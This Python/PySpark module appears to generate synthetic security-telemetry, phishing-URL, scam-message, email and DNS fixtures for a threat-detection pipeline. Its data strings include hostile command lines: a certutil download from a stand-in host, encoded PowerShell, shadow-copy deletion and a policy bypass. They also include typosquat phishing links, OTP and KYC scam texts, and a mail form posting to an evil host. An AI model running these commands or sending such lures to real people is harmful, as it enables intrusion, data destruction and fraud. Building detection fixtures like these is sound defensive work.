"""Deterministic projections of the given tables into telemetry, addresses, messages and mail.

Every text here runs unchanged in Spark SQL and in the checking engine; table names are written as
``{events}``. ``chr(92)`` is a backslash, since string escapes differ between the engines.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession, functions as F

from threatlake.schemas import conform_events
from threatlake.session import spread

NAMES = "chrome.exe,powershell.exe,svchost.exe,winword.exe,invoice.pdf.exe,cmd.exe,updater.exe,certutil.exe"
FOLDERS = "C:/Windows/System32,C:/Users/a/Downloads,C:/Program Files/App,C:/Users/a/AppData/Local/Temp"
FILES = "setup.exe,invoice.pdf.exe,readme.txt,macro.js,svchost.exe,installer.msi,run.bat,disk.iso"


def pick(items: str, index: str) -> str:
    """SQL: the item of a comma-separated list at a zero-based index expression."""
    n = len(items.split(","))
    return f"split_part('{items}', ',', CAST(({index}) % {n} + 1 AS INT))"


_EXE = (
    f"concat(replace({pick(FOLDERS, 'CAST(floor(event_id / 8) AS BIGINT)')}, '/', chr(92)), chr(92), "
    f"{pick(NAMES, 'event_id')})"
)
_FILE = pick(FILES, "CAST(floor(event_id / 4) AS BIGINT)")

TELEMETRY = f"""
SELECT event_id AS seq, ts, value, event_type AS src_type,
  concat('h', CAST(user_id % 10 AS STRING)) AS host,
  1000 + user_id % 40 AS pid,
  CASE event_type WHEN 'signup' THEN 'file_download_observed' WHEN 'view' THEN 'process_started'
    WHEN 'click' THEN 'network_connection_observed' WHEN 'purchase' THEN 'dns_query_observed'
    ELSE CASE event_id % 6 WHEN 0 THEN 'startup_item_added' WHEN 1 THEN 'scheduled_task_created'
      WHEN 2 THEN 'service_installed' WHEN 3 THEN 'startup_item_removed' WHEN 4 THEN 'usb_inserted'
      ELSE 'process_terminated' END END AS event_type,
  {pick(NAMES, 'event_id')} AS process_name,
  {pick('explorer.exe,winword.exe,services.exe', 'event_id')} AS parent_name,
  CAST(500 + event_id % 11 AS BIGINT) AS parent_pid,
  CASE WHEN event_id % 41 = 0 THEN '' ELSE {_EXE} END AS executable,
  CASE event_id % 9 WHEN 0 THEN 'certutil.exe -urlcache -f http://x.example/p' WHEN 1 THEN 'powershell -enc AAAA'
    WHEN 2 THEN 'vssadmin delete shadows /all' WHEN 3 THEN 'powershell -ExecutionPolicy Bypass' ELSE 'app --run' END AS command_line,
  CASE WHEN event_id % 97 = 0 THEN '198.51.100.66'
    WHEN event_id % 5 = 0 THEN concat('10.0.', CAST(event_id % 3 AS STRING), '.', CAST(user_id % 7 AS STRING))
    ELSE concat('93.184.', CAST(user_id % 4 AS STRING), '.', CAST(event_id % 6 AS STRING)) END AS remote_ip,
  CAST({pick('443,80,4444', 'event_id')} AS INT) AS remote_port,
  CASE event_id % 6 WHEN 0 THEN 'www.google.com' WHEN 1 THEN 'mybot.duckdns.org' WHEN 2 THEN 'update-check.top.'
    WHEN 3 THEN 'Q89xkm18902vlza09.com' WHEN 4 THEN 'malicious-c2-test.duckdns.org'
    ELSE concat('cdn', CAST(user_id % 9 AS STRING), '.example.com') END AS domain,
  CASE WHEN event_id % 101 = 0 THEN '275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F'
    WHEN event_id % 7 = 0 THEN concat('aa', CAST(event_id % 13 AS STRING)) ELSE '' END AS sha256,
  {pick('Valid,NotSigned,unsigned,unavailable,HashMismatch,invalid', 'event_id')} AS signature_status,
  {pick('Google LLC,Acme Ltd,Microsoft Corporation', 'event_id')} AS signer,
  CASE WHEN event_id % 2 = 0 THEN 3 ELSE 0 END AS zone_id,
  {_EXE} AS file_path,
  {_FILE} AS filename,
  concat('.', reverse(split_part(reverse({_FILE}), '.', 1))) AS extension,
  concat('https://dl', CAST(user_id % 5 AS STRING), '.example.net/f', CAST(event_id AS STRING)) AS download_url,
  {pick('Amazon Technologies,Example Net,Hetzner Online GmbH,Acme Hosting', 'event_id')} AS org,
  {pick('AS16509 AMAZON-02,AS64500 EXAMPLE,AS24940 HETZNER', 'CAST(floor(event_id / 3) AS BIGINT)')} AS asn,
  {pick('Germany,Local / Private,France', 'event_id')} AS country,
  {pick('Berlin,,Paris', 'CAST(floor(event_id / 2) AS BIGINT)')} AS city,
  concat('item', CAST(event_id % 50 AS STRING)) AS name,
  CASE event_id % 4 WHEN 0 THEN concat(chr(34), {_EXE}, chr(34), ' /background')
    WHEN 1 THEN 'powershell -enc SQBFAFgA' WHEN 2 THEN concat('C:', chr(92), 'Tools', chr(92), {_FILE})
    ELSE 'C:/Windows/explorer.exe' END AS command,
  'HKCU Run' AS location
FROM {{events}}
"""


def tables(spark: SparkSession, sf_dir: str, *names: str) -> dict[str, DataFrame]:
    return {n: spark.read.parquet(f"{sf_dir}/{n}.parquet") for n in names}


def dealt(spark: SparkSession, sf_dir: str, *names: str) -> dict[str, DataFrame]:
    """Tables whose rows are costly to work on."""
    return {n: spread(df) for n, df in tables(spark, sf_dir, *names).items()}


def telemetry(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events of the telemetry projection in the shared event schema."""
    return shape_telemetry(spark.sql(TELEMETRY, **dealt(spark, sf_dir, "events")))


def telemetry_with(spark: SparkSession, sf_dir: str, known: DataFrame) -> DataFrame:
    """Telemetry with the columns of ``known``, a row for some ``seq`` each. They meet before the projection, where rows are narrow."""
    added = [c for c in known.columns if c != "seq"]
    rows = dealt(spark, sf_dir, "events")["events"]
    met = rows.join(known.withColumnRenamed("seq", "_seq"), F.col("event_id") == F.col("_seq"), "left")
    select = TELEMETRY.replace("FROM {events}", "".join(f", {c}" for c in added) + " FROM {events}")
    return shape_telemetry(spark.sql(select, events=met))


def shape_telemetry(raw: DataFrame) -> DataFrame:
    """Projected rows, batch or stream, with the nested columns of the event schema."""
    kind = F.col("event_type")
    is_auto = kind.startswith("startup_item")
    is_task = kind.startswith("scheduled_task")
    is_svc = kind.startswith("service_")
    shaped = raw.withColumns(
        {
            "ts": F.col("ts").cast("timestamp"),
            "file_metadata": F.struct(
                F.col("executable").alias("path"), F.col("sha256"), F.lit(None).cast("bigint").alias("size_bytes"),
                F.lit(None).cast("boolean").alias("is_writable_location"), F.lit(None).cast("int").alias("zone_id"),
            ),
            "signature": F.struct(
                F.col("signature_status").alias("status"), F.col("signer"), F.lit("").alias("message"),
                (F.lower("signature_status") == "valid").alias("is_valid"),
            ),
            "mark_of_the_web": F.col("zone_id") == 3,
            "task_name": F.when(is_task, F.col("name")),
            "task_to_run": F.when(is_task, F.col("command")),
            "binpath": F.when(is_svc, F.col("command")),
            "command": F.when(is_auto, F.col("command")),
            "name": F.when(is_auto | is_svc, F.col("name")),
        }
    )
    return conform_events(shaped.drop("signature_status", "signer", "src_type", "value"))


# --- addresses and messages ---------------------------------------------------------------------------

_URLS = [
    "concat('https://secure-paypal-login-example.com/verify?id=', CAST(page_id AS STRING))",
    "concat('http://192.168.1.', CAST(page_id % 9 AS STRING), ':8080/login')",
    "concat('https://paypa1.com/signin?session=', CAST(page_id AS STRING), '&otp=1')",
    "concat('https://example.com/redirect?next=https%3A%2F%2Fevil', CAST(page_id % 7 AS STRING), '.example.net%2Flogin')",
    "concat('https://user:pw@a.b.c.d.e.example', CAST(page_id % 5 AS STRING), '.com/path/to/page.html')",
    "concat('https://g00gle-account-verify.xyz/?a=', CAST(page_id AS STRING), '&b=2&c=3&d=4&e=5&f=6&g=7')",
    "concat('https://login.paypal.com.tr:443/account/', CAST(page_id AS STRING))",
    "concat('https://paypal.github.io/x', CAST(page_id AS STRING), '/%zz')",
    "concat('http://bit.ly/', CAST(page_id AS STRING), '%0d%41%42%43%44%45')",
    "concat('ftp://files.example.com/', CAST(page_id AS STRING))",
    "concat('https://micros0ft-support', CAST(page_id % 30 AS STRING), '.top/billing?redirect=%2F%2Fexample.org%2Fa&user=', CAST(page_id AS STRING))",
    "concat('https://netfilx.com/', repeat('a', CAST(page_id % 300 AS INT)), '/', CAST(page_id AS STRING))",
    "concat('https://my-bank-of-america-secure-site-with-a-very-long-name-here', CAST(page_id % 3 AS STRING), '.net/')",
    "concat('https://www.google.com/url?q=', CAST(page_id AS STRING))",
    "concat('https://apple.example', CAST(page_id % 40 AS STRING), '.com//cdn.example.net/x')",
    "'not a url'",
]
URLS = (
    "SELECT page_id, CASE page_id % " + str(2 * len(_URLS)) + " "
    + " ".join(f"WHEN {i} THEN {u}" for i, u in enumerate(_URLS))
    + " ELSE url END AS url, page_id % 50 AS user_id, html FROM {pages}"
)

_PHRASES = [
    "Dear customer, your SBI KYC is pending. Update immediately or your account will be blocked. Share OTP to verify: http://sbi-kyc-update.top/login",
    "URGENT: your account will be suspended. Call 1800 123 4567 immediately!!!",
    "Y0ur acc0unt will be bl0cked. Share y0ur 0TP n0w",
    "Do not share your OTP with anyone. Your OTP is 482913.",
    "You have won a lottery prize, claim your reward at www.paypa1.com/claim, now.",
    "Your PayPal wallet is locked, sign in at https://www.paypal.com/signin.",
    "Amazon refund pending: click http://amazon-refund.example.com/pay and pay the processing fee to receive it",
    "Aapka khata band ho jayega. Turant OTP bhejein.",
    "Please install AnyDesk and enter your UPI PIN to receive cashback",
    "Your account is b l o c k e d today, act now",
    "Guaranteed returns of 20% daily, join our Telegram group at t.me/tips",
    "THE POWER WILL BE CUT OFF TONIGHT UNLESS YOU PAY THE ELECTRICITY BILL, DISCONNECT NOTICE",
    "Contact customer care at +91 9876543210 about the virus security alert on your computer",
]
_PHRASE = "CASE doc_id % " + str(2 * len(_PHRASES)) + " " + " ".join(
    f"WHEN {i} THEN '{p} '" for i, p in enumerate(_PHRASES)
) + " ELSE '' END"
MESSAGES = f"SELECT doc_id, concat({_PHRASE}, text) AS text FROM {{documents}}"


def urls(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.sql(URLS, **dealt(spark, sf_dir, "pages"))


def messages(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.sql(MESSAGES, **dealt(spark, sf_dir, "documents"))


# --- addresses, mail and intelligence ---------------------------------------------------------------------

_LOCALS = ["'jane.doe'", "'paypal.support'", "'support'", "concat('u', CAST(100000 + doc_id AS STRING))", "'chase.miller'",
           "'a..b'", "repeat('x', 45)", "'sbi'"]
_DOMAINS = ["gmail.com", "gmial.com", "mailinator.com", "example.com", "examplee.com", "example-secure.com", "paypa1.com",
            "a.b.c.d.example.org", "x1234567890.net", "evil.top", "bad_domain.com", "outside.123"]
_LOCAL = "CASE doc_id % 8 " + " ".join(f"WHEN {i} THEN {x}" for i, x in enumerate(_LOCALS)) + " END"
_DOMAIN = pick(",".join(_DOMAINS), "CAST(floor(doc_id / 8) AS BIGINT)")
ADDRESSES = f"""SELECT doc_id, CAST(floor(doc_id / 6) AS BIGINT) AS page_id, doc_id % 6 AS position, {_LOCAL} AS loc, {_DOMAIN} AS dom,
  concat({_LOCAL}, '@', {_DOMAIN}) AS address, {pick('PayPal Support,Jane,support@paypal.com,,State Bank of India', 'doc_id')} AS display_name FROM {{documents}}"""
EMAIL_TEXT = f"""SELECT doc_id, concat('Mail ', {_LOCAL}, '@', {_DOMAIN}, ', or JANE@example', CAST(doc_id % 9 AS STRING), '.com and jane@Example', CAST(doc_id % 9 AS STRING), '.com. ', text) AS text FROM {{documents}}"""

_CRLF = "chr(13), chr(10)"
SPF = pick("pass,fail,softfail,neutral,none", "doc_id")
DKIM = pick("pass,fail,permerror", "CAST(floor(doc_id / 5) AS BIGINT)")
DMARC = pick("pass,fail,temperror,none", "CAST(floor(doc_id / 3) AS BIGINT)")
SENDER = pick("example.com,mail.example.org,shop.example.net", "doc_id")
CLAIMED = pick("example.com,bounce.example.org,other.example", "CAST(floor(doc_id / 2) AS BIGINT)")
REPLY = pick("help@example.com,owner@other-site.net,acme@gmail.com", "CAST(floor(doc_id / 7) AS BIGINT)")
MAIL = f"""SELECT doc_id AS msg_id, concat('From: "News Desk" <news@', {SENDER}, '>', {_CRLF}, 'Reply-To: ', {REPLY}, {_CRLF}, 'Return-Path: <bounce@', {CLAIMED}, '>', {_CRLF},
  'Subject: Note ', CAST(doc_id AS STRING), {_CRLF}, 'Received: from a.example ([10.1.2.3]) by b.example (8.8.8.8, 300.1.1.1)', {_CRLF}, 'Received: from [IPv6:2001:DB8::1] by c', {_CRLF},
  'Authentication-Results: mx.test; spf=', {SPF}, ' smtp.mailfrom=', {CLAIMED}, ';', {_CRLF}, ' dkim=', {DKIM}, ' header.d=', {SENDER}, '; dmarc=', {DMARC}, ' header.from=', {SENDER}, {_CRLF},
  CASE WHEN doc_id % 4 = 0 THEN concat('Received-SPF: softfail (mx.two: not permitted) envelope-from=x@', {CLAIMED}, chr(13), chr(10)) ELSE '' END,
  CASE WHEN doc_id % 3 = 0 THEN concat('Content-Type: multipart/mixed; boundary="b1"', {_CRLF}, {_CRLF}, '--b1', {_CRLF}, 'Content-Type: text/plain; charset=utf-8', {_CRLF}, {_CRLF}, 'See https://www.', {SENDER}, '/a.', {_CRLF}, text, {_CRLF},
    '--b1', {_CRLF}, 'Content-Type: application/pdf; name="f', CAST(doc_id % 7 AS STRING), '.pdf"', {_CRLF}, 'Content-Transfer-Encoding: base64', {_CRLF}, {_CRLF}, CASE WHEN doc_id % 9 = 0 THEN 'not base64!' ELSE 'UERGREFUQQ==' END, {_CRLF}, '--b1--', {_CRLF})
  WHEN doc_id % 3 = 1 THEN concat('Content-Type: text/html', {_CRLF}, {_CRLF}, '<p hidden>secret</p><a href="https://bit.ly/', CAST(doc_id AS STRING), '">https://example.com/pay</a><img src="https://img.example.org/x.png"><form action="https://evil.example.net/f" method="POST"></form>')
  ELSE concat({_CRLF}, text, ' https://www.', {SENDER}, '/b,') END) AS raw FROM {{documents}}"""

DNS_ANSWERS = """SELECT concat('d', CAST(page_id AS STRING), '.example.com') AS domain, q.query, CASE WHEN page_id % 11 = 0 THEN 3 WHEN page_id % 7 = 0 AND q.query = 'TXT' THEN 2 ELSE 0 END AS status, page_id % 2 AS pos,
  CASE WHEN page_id % 11 = 0 THEN NULL ELSE CASE q.query WHEN 'MX' THEN CASE WHEN page_id % 5 = 0 THEN NULL ELSE 15 END WHEN 'A' THEN CASE WHEN page_id % 10 = 0 THEN NULL ELSE 1 END ELSE 16 END END AS type,
  CASE q.query WHEN 'MX' THEN CASE page_id % 4 WHEN 0 THEN '0 .' WHEN 1 THEN '10 ASPMX.l.google.com.' WHEN 2 THEN '5 x.mail.protection.outlook.com.' ELSE '10 mx.unknown.net.' END
    WHEN 'A' THEN '93.184.216.34'
    WHEN 'TXT' THEN CASE page_id % 4 WHEN 0 THEN concat(chr(34), 'v=spf1 +all', chr(34)) WHEN 1 THEN concat(chr(34), 'v=spf1 include:x ', chr(34), ' ', chr(34), '-all', chr(34)) WHEN 2 THEN 'v=spf1 all' ELSE 'other' END
    ELSE CASE page_id % 3 WHEN 0 THEN 'v=DMARC1; p=Reject; pct=100' WHEN 1 THEN 'v=DMARC1; p=odd' ELSE 'nothing' END END AS data
FROM {pages} CROSS JOIN (SELECT 'MX' AS query UNION ALL SELECT 'TXT' UNION ALL SELECT 'DMARC' UNION ALL SELECT 'A') q"""


def view(sql: str, table: str):
    """A reader of one projection."""

    def read(spark: SparkSession, sf_dir: str) -> DataFrame:
        return spark.sql(sql, **dealt(spark, sf_dir, table))

    return read


addresses = view(ADDRESSES, "documents")
email_text = view(EMAIL_TEXT, "documents")
mail = view(MAIL, "documents")
dns_answers = view(DNS_ANSWERS, "pages")
